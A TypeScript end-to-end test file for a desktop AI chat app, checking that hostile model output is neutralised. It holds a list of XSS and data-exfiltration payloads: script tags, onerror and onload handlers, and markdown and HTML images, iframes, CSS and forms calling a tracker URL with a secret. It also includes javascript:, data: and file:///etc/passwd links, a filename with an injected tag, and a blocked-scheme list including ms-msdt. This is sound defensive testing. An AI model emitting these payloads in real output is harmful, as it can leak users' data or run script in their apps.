import { afterEach, beforeEach, describe, expect } from 'vitest'
import { answer, gate, sse, stream } from '../support/scriptedGateway'
import { draftFiles, pickFiles, testFile } from '../support/e2e/attachments'
import { answers, contentOf, say, sayAndWait } from '../support/e2e/chatWindow'
import { compare } from '../support/e2e/compareWindow'
import { interceptDesktop, windowCount } from '../support/e2e/mainProcess'
import { eventually, journey, usualModel } from '../support/e2e/test'
import { startTracker, type Tracker } from '../support/e2e/tracker'

let tracker: Tracker
beforeEach(async () => void (tracker = await startTracker()))
afterEach(() => tracker.close())

/** Everything a model could try, with `URL` for the server that would like to hear of it. */
const hostile = [
  '<script>window.ran = "script"</script>',
  '<img src="x" onerror="window.ran = 1">',
  '<img src="URL/html-image?q=secret">',
  '![a picture](URL/image.png?q=secret)',
  '[![linked](URL/linked.png)](URL/link)',
  '![by reference][ref]\n\n[ref]: URL/reference.png',
  '<svg onload="window.ran = 2"><image href="URL/svg.png" /></svg>',
  '<iframe src="URL/frame" srcdoc="<script>parent.ran = 3</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=URL/refresh">',
  '<base href="URL/">',
  '<link rel="stylesheet" href="URL/style.css"><link rel="prefetch" href="URL/prefetch">',
  '<style>@import "URL/import.css"; body { background: url(URL/background) }</style>',
  '<form action="URL/form" method="post"><button autofocus>go</button></form>',
  '<video src="URL/video.mp4" autoplay poster="URL/poster.png"></video>',
  '<details open ontoggle="window.ran = 4"><summary>x</summary></details>',
  '<div style="background: url(URL/styled)">styled</div>',
  '[click](javascript:window.ran=5) [data](data:text/html,<script>opener.ran=6</script>) [file](file:///etc/passwd)',
  '<a href="javascript:window.ran = 7" onmouseover="window.ran = 8">over</a>',
  '$\\href{javascript:window.ran=9}{x}$ $\\includegraphics{URL/tex.png}$ $\\htmlStyle{background:url(URL/tex)}{y}$',
  '```html\n<script>window.ran = 10</script>\n```',
]

describe('invariant 4: what a model writes is hostile', () => {
  journey(
    'nothing of it runs, loads or leads away, neither while it streams nor after',
    async ({ gateway, start }) => {
      const half = gate()
      const text = hostile.join('\n\n').replaceAll('URL', tracker.url)
      const middle = Math.floor(text.length / 2)
      gateway.willAnswer(
        stream([
          sse.text(text.slice(0, middle)),
          half.step,
          sse.text(text.slice(middle)),
          sse.text('\n\nthe end'),
          sse.finish(),
          sse.done(),
        ]),
        answer('[ref]: x'),
      )
      const app = await start()
      const { page, userData } = app
      const { openedLinks } = await interceptDesktop(app)
      await say(page, 'be nasty')
      await contentOf(answers(page)).getByText('window.ran').first().waitFor()
      half.open()
      await answers(page, 'complete').waitFor()
      await contentOf(answers(page)).getByText('the end').waitFor()

      const content = contentOf(answers(page))
      const check = async (): Promise<void> => {
        expect(await page.evaluate(() => (window as { ran?: unknown }).ran)).toBeUndefined()
        // No element that loads, runs or restyles anything came out of it; KaTeX and code draw with spans.
        const dangerous =
          'script, img, iframe, object, embed, link, meta, base, style, form, video, audio, source, image, [srcdoc]'
        expect(await content.locator(dangerous).count()).toBe(0)
        const handlers = await content.evaluate((element) =>
          [...element.querySelectorAll('*')].flatMap((one) =>
            one.getAttributeNames().filter((name) => name.startsWith('on')),
          ),
        )
        expect(handlers).toEqual([])
        const schemes = await content
          .locator('a[href]')
          .evaluateAll((links) => links.map((link) => new URL((link as HTMLAnchorElement).href).protocol))
        expect(schemes.filter((scheme) => !['http:', 'https:', 'mailto:', 'app:'].includes(scheme))).toEqual(
          [],
        )
        expect(page.url()).toBe('app://runyour/index.html')
      }
      await check()
      const traps = await content.getByText(/javascript:|data:text|file:/).all()
      expect(traps.length).toBeGreaterThan(0)
      for (const trap of traps) await trap.dispatchEvent('click')
      await check()
      expect(await openedLinks()).toEqual([])
      expect(tracker.requests).toEqual([])
      await app.quit()

      const again = await start({ userData })
      await answers(again.page, 'complete').waitFor()
      expect(await again.page.evaluate(() => (window as { ran?: unknown }).ran)).toBeUndefined()
      expect(tracker.requests).toEqual([])
    },
  )

  journey(
    'nor does it in the other places where its words stand: columns, versions, a summary, a file',
    async ({ gateway, start }) => {
      const text = hostile.join('\n\n').replaceAll('URL', tracker.url)
      gateway.willDo(({ method }) => (method === 'POST' ? answer(text) : undefined))
      const app = await start()
      const { page, call } = app
      const { openedLinks } = await interceptDesktop(app)
      const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=1"><image href="${tracker.url}/svg"/></svg>`
      await pickFiles(
        page,
        testFile('<img src=x onerror=window.ran=2>.html', text, 'text/html'),
        testFile('drawing.svg', svg, 'image/svg+xml'),
      )
      await eventually(() => draftFiles(page).count()).toBe(2)
      await eventually(() => draftFiles(page, 'reading').count()).toBe(0)
      // A drawing is neither a photograph nor a text that a model reads.
      for (const file of await draftFiles(page, 'failed').all()) await file.getByRole('button').click()
      for (const file of await draftFiles(page, 'ready').all()) {
        await file.getByTestId('attachment-open').click()
        await page.getByTestId('attachment-dialog').getByText('window.ran').first().waitFor()
        await page.keyboard.press('Escape')
        await page.getByTestId('attachment-dialog').waitFor({ state: 'detached' })
      }

      await compare(page, usualModel, 'anthropic/claude-haiku-4-5')
      await say(page, 'both of you, be nasty')
      await eventually(() =>
        page.locator('[data-testid="compare-column"][data-status="complete"]').count(),
      ).toBe(2)
      await page.getByTestId('compare-merge').click()
      await page.getByTestId('merge-source').first().waitFor()
      await page.keyboard.press('Escape')
      await page.getByTestId('merge-source').first().waitFor({ state: 'hidden' })
      await page.getByTestId('compare-close').click()

      await call('modelSettings.update', { model: usualModel, patch: { contextWindow: 300 } })
      await say(page, 'and in a summary')
      await page.getByTestId('fit-summarise').check()
      await page.getByTestId('fit-remember').check()
      await page.getByTestId('fit-send').click()
      const shown = answers(page, 'complete').last()
      await shown.getByRole('button', { name: 'Read' }).click()
      await page.getByRole('dialog').getByText('window.ran').first().waitFor()
      await page.keyboard.press('Escape')
      await page.getByRole('dialog').waitFor({ state: 'hidden' })
      await shown.getByTestId('message-retry').click()
      await eventually(() => answers(page, 'complete').last().getByTestId('variant-list').innerText()).toBe(
        '2/2',
      )
      await answers(page).last().getByTestId('variant-list').click()
      await page.getByTestId('variant-option').first().waitFor()

      expect(await page.evaluate(() => (window as { ran?: unknown }).ran)).toBeUndefined()
      expect(await page.locator('script:not([src]), iframe, object, embed, base, form[action]').count()).toBe(
        0,
      )
      expect(page.url()).toBe('app://runyour/index.html')
      expect(await openedLinks()).toEqual([])
      expect(tracker.requests).toEqual([])
    },
  )

  journey(
    'links show where they lead and open on a click only, in the browser',
    async ({ gateway, start }) => {
      const real = `${tracker.url}/real?a=1`
      gateway.willAnswer(
        answer(
          `[https://bank.example](${real}) and [mail](mailto:a@example.com) and <https://auto.example/> and [local](file:///etc/passwd)`,
        ),
      )
      const app = await start()
      const { page } = app
      const { openedLinks } = await interceptDesktop(app)
      const content = contentOf(await sayAndWait(page, 'links, please'))
      const link = content.getByRole('link', { name: 'https://bank.example' })

      // The target, not the text that claims to be one: in the corner for the pointer as for the keyboard.
      const shown = page.getByText(`Link goes to ${real}`)
      await link.hover()
      await shown.waitFor()
      await page.getByTestId('composer').hover()
      await shown.waitFor({ state: 'hidden' })
      await link.focus()
      await shown.waitFor()
      expect(await openedLinks()).toEqual([])

      await link.click()
      await eventually(openedLinks).toEqual([real])
      await content.getByRole('link', { name: 'mail' }).press('Enter')
      await eventually(openedLinks).toEqual([real, 'mailto:a@example.com'])
      await link.click({ button: 'middle' })
      await eventually(openedLinks).toEqual([real, 'mailto:a@example.com', real])
      expect(await content.getByRole('link').count()).toBe(3)
      expect(await windowCount(app)).toBe(1)
      expect(tracker.requests).toEqual([])
    },
  )

  journey('main opens no other scheme, whoever asks', async ({ start }) => {
    const app = await start()
    const { openedLinks } = await interceptDesktop(app)
    for (const url of [
      'file:///etc/passwd',
      'javascript:alert(1)',
      'data:text/html,x',
      'ms-msdt:/id',
      'smb://server/share',
      'app://runyour/index.html',
      '/etc/passwd',
      'not a link',
    ]) {
      expect(await app.call('app.openLink', { url }), url).toMatchObject({
        ok: false,
        error: { code: 'unsupported' },
      })
    }
    expect(await openedLinks()).toEqual([])
    expect(await app.call('app.openLink', { url: 'https://example.com/a b' })).toEqual({
      ok: true,
      value: null,
    })
    expect(await openedLinks()).toEqual(['https://example.com/a%20b'])
  })
})
